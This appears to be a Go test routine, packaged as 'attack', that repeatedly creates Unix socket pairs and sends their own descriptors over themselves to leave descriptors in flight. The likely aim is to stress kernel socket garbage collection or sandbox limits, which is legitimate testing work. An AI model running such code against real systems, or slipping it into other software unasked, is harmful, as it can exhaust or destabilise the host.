package attack

import "syscall"

func Run() {
	for range 100 {
		pair, err := syscall.Socketpair(syscall.AF_UNIX, syscall.SOCK_STREAM, 0)
		if err != nil {
			return
		}
		rights := syscall.UnixRights(1, 2, pair[0], pair[1])
		syscall.Sendmsg(pair[0], []byte("x"), rights, nil, 0)
		syscall.Sendmsg(pair[1], []byte("x"), rights, nil, 0)
		syscall.Close(pair[0])
		syscall.Close(pair[1])
	}
}
